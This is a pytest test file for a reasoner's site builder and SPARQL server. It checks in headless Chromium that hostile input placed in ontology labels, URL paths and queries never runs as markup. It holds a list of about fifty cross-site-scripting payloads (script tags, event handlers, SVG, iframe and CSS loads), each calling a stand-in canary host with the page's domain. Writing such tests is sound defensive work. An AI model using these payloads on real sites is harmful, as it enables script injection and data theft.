"""Nothing that a text holds becomes markup in a real browser: pages of hostile knowledge, and what the server answers to hostile requests."""

from __future__ import annotations

import re
import shutil
import subprocess
from collections.abc import Callable
from html import escape
from pathlib import Path
from urllib.parse import quote, quote_plus

import pytest
from servers import canary, running
from test_site import PREFIXES, Page, small

from reasoner.authoring.site.build import write_site

ROOT = Path(__file__).parent.parent
RECORD = str(ROOT / "docs" / "examples" / "patient.ttl")
PATIENCE = 60
ACCEPT = "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,image/apng,*/*;q=0.8"
SHOWN = (
    "text/html",
    "text/plain",
    "text/xml",
    "application/xml",
    "application/xhtml+xml",
    "application/json",
    "application/problem+json",
    "image/svg+xml",
)
"""What a browser shows rather than saves."""

HIT = "fetch('http://CANARY/'+document.domain);document.documentElement.setAttribute('data-hit','1')"
CODE = escape(HIT)
CARRIERS = (
    "<script>CODE</script>",
    "</title><script>CODE</script>",
    "</style><script>CODE</script>",
    "</textarea><script>CODE</script>",
    "--><script>CODE</script><!--",
    "]]><script>CODE</script>",
    "</script><script>CODE</script>",
    '"><script>CODE</script>',
    "'><script>CODE</script>",
    "<ScRiPt>CODE</sCrIpT>",
    "<script/x>CODE</script>",
    "<script src=http://CANARY/a.js></script>",
    "<script type=module>CODE</script>",
    "<img src=http://CANARY/a.png>",
    '<img src=x onerror="CODE">',
    "<img src=x onerror='CODE'>",
    '"><img src=x onerror="CODE">',
    '<image href=x onerror="CODE">',
    '<svg onload="CODE">',
    "<svg><script>CODE</script></svg>",
    "<svg><image href=http://CANARY/b.png /></svg>",
    '<svg><animate onbegin="CODE" attributeName=x dur=1s>',
    "<svg><use href=http://CANARY/c.svg#a /></svg>",
    '<math><mtext><table><mglyph><style><img src=x onerror="CODE">',
    '<body onload="CODE">',
    '<body onpageshow="CODE">',
    '<iframe srcdoc="<script>parent.CODE</script>"></iframe>',
    "<iframe src=http://CANARY/d></iframe>",
    '<iframe src="javascript:CODE"></iframe>',
    "<object data=http://CANARY/e></object>",
    "<embed src=http://CANARY/f>",
    "<link rel=stylesheet href=http://CANARY/g.css>",
    "<link rel=prefetch href=http://CANARY/h>",
    "<style>@import 'http://CANARY/i.css';</style>",
    "<style>body{background:url(http://CANARY/j.png)}</style>",
    '<div style="background:url(http://CANARY/k.png)">',
    "<base href=http://CANARY/>",
    "<meta http-equiv=refresh content='0;url=http://CANARY/l'>",
    '<input autofocus onfocus="CODE">',
    '<details open ontoggle="CODE">',
    '<video><source onerror="CODE" src=x></video>',
    "<video poster=http://CANARY/m.png>",
    '<audio src=x onerror="CODE">',
    '<marquee onstart="CODE">',
    '" autofocus onfocus="CODE',
    "' style='background:url(http://CANARY/n.png)",
    '" style="background:url(http://CANARY/o.png)',
    '<form action=http://CANARY/p><button autofocus formaction="javascript:CODE">',
    "<template><script>CODE</script></template><script>CODE</script>",
    "&lt;script&gt;CODE&lt;/script&gt;",
    '<noscript><p title="</noscript><script>CODE</script>">',
    "{{constructor.constructor('CODE')()}}",
)
FLOOR = 50


def payloads(address: str) -> list[str]:
    """Return what tries to run code that reaches a canary and marks the document, or to load something from it."""
    attribute = HIT.replace("CANARY", address)
    return [each.replace("CANARY", address).replace("CODE", attribute) for each in CARRIERS]


@pytest.fixture(scope="module")
def visit(tmp_path_factory: pytest.TempPathFactory) -> Callable[[str], str]:
    """Return what opens an address in a browser and gives the document as it then is."""
    browser = shutil.which("chromium") or shutil.which("google-chrome") or shutil.which("chromium-browser")
    if browser is None:
        pytest.skip("not run: no Chromium is at hand")
    profile = tmp_path_factory.mktemp("profile")
    options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking", "--no-first-run", "--hide-scrollbars"]
    command = [browser, *options, f"--user-data-dir={profile}", "--virtual-time-budget=3000", "--dump-dom"]

    def opened(url: str) -> str:
        done = subprocess.run([*command, url], capture_output=True, text=True, timeout=PATIENCE, check=True)
        return done.stdout

    return opened


def made(document: str) -> list[str]:
    """Return what a document holds that only a payload makes: forbidden elements, handlers, the mark."""
    tags = Page(document).tags
    forbidden = {"script", "img", "iframe", "object", "embed", "base", "form", "video", "audio", "input", "marquee"}
    found = [tag for tag, _ in tags if tag in forbidden]
    return found + [name for _, each in tags for name in each if name.startswith("on") or name == "data-hit"]


@pytest.mark.release
def test_hostile_knowledge_runs_nothing_in_a_browser(tmp_path: Path, visit: Callable[[str], str], figure: Callable[..., None]) -> None:
    with canary() as (address, calls):
        tried = payloads(address)
        assert len(tried) >= FLOOR
        control = tmp_path / "control.html"
        control.write_text(f"<!doctype html><html><body>{tried[0]}</body></html>", encoding="utf-8")
        assert 'data-hit="1"' in visit(control.as_uri()), "the browser runs what is left unguarded"
        assert calls
        calls.clear()
        pages = write_site(small(tmp_path, _knowledge(tried)), tmp_path / "site")
        opened = sorted((tmp_path / "site").glob("*.html"))
        for page in opened:
            assert not made(visit(page.as_uri())), page.name
        assert calls == []
    assert pages
    figure("payloads in a browser: in labels, definitions, names and sources", len(tried), f"on {len(opened)} pages")


def _knowledge(tried: list[str]) -> str:
    """Return an ontology whose every label, definition, note, name and source is a payload."""
    classes = []
    for place, each in enumerate(tried):
        text = each.replace("\\", "\\\\").replace('"', '\\"')
        classes.append(
            f'lc:Evil{place} a owl:Class ; rdfs:subClassOf lc:Condition ; lc:inDifferential true ; skos:prefLabel "{text} {place}"@en ;\n'
            f'  skos:definition "{text}"@en ; skos:altLabel "{text}" ; skos:note "{text}" ; dcterms:identifier "{text}" ; dcterms:source "{text}" .\n'
        )
    head = "<https://w3id.org/legcramps/legcramps> a owl:Ontology .\nlc:Condition a owl:Class .\nlc:Case a owl:Class .\n"
    return PREFIXES + head + "".join(classes)


@pytest.mark.release
def test_hostile_requests_run_nothing_in_a_browser(visit: Callable[[str], str], figure: Callable[..., None]) -> None:
    with canary() as (address, calls), running(RECORD, "--as-of", "2026-11-20") as server:
        tried = payloads(address)
        here = f"http://127.0.0.1:{server.port}"
        opened = 0
        for each in tried:
            name = re.sub(r"\W", "_", each)[:40]
            query = f"SELECT ('{each}' AS ?{name}) {{}}" if "'" not in each else f'SELECT ("""{each} """ AS ?{name}) {{}}'
            for target in (f"/{quote(each, safe='')}", f"/sparql?query={quote_plus(each)}", f"/sparql?query={quote_plus(query)}"):
                reply = server.ask("GET", target, headers={"accept": ACCEPT, "host": f"127.0.0.1:{server.port}"})
                assert reply.headers["x-content-type-options"] == "nosniff"
                if reply.headers["content-type"].partition(";")[0] in SHOWN:
                    opened += 1
                    assert not made(visit(here + target)), target
        assert calls == []
        assert opened >= 2 * FLOOR, "most of what a request is answered with is shown"
    figure("payloads in a browser: in paths, queries, variables and literals", len(tried), f"on {opened} pages")
